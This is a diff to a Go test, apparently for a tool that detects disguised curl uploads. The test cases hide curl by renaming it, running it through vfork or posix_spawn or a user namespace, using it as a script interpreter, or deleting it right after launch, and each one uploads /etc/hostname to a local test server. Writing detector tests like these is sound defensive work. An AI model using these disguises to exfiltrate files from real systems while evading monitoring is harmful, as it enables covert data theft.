@@ -69,7 +69,7 @@ func TestDisguises(t *testing.T) {
 		"in a user namespace":          {inUserNamespace(command(append([]string{install("mine", curl)}, upload...)...)), "curl", "content", "renamed", "/etc/hostname"},
 		"by vfork":                     {byVfork(append([]string{curl}, upload...)...), "curl", "name", "", "/etc/hostname"},
 		"by posix_spawn":               {byPosixSpawn(t, append([]string{curl}, upload...)...), "curl", "name", "", "/etc/hostname"},
-		"deleted as soon as it runs":   {command("/bin/sh", "-c", install("gone", curl)+" --max-time 2 -sS -T /etc/hostname http://"+silent(t)+" & rm "+at("gone")+"; wait"), "curl", "content", "renamed", "/etc/hostname"},
+		"deleted as soon as it runs":   {command("/bin/sh", "-c", install("gone", curl)+" --max-time 2 -sS -T /etc/hostname http://"+silent(t)+" & sleep 0.2; rm "+at("gone")+"; wait"), "curl", "content", "renamed", "/etc/hostname"},
 		"a name of another tool":       {command(append([]string{install("rsync", curl)}, upload...)...), "curl", "content", "renamed", "/etc/hostname"},
 		"a version in its name":        {command(append([]string{install("curl-8.5.0", curl)}, upload...)...), "curl", "name", "", "/etc/hostname"},
 		"as the interpreter of a file": {command(script("data", "#!"+curl+" -sST/etc/hostname", "x")), "curl", "", "", ""},
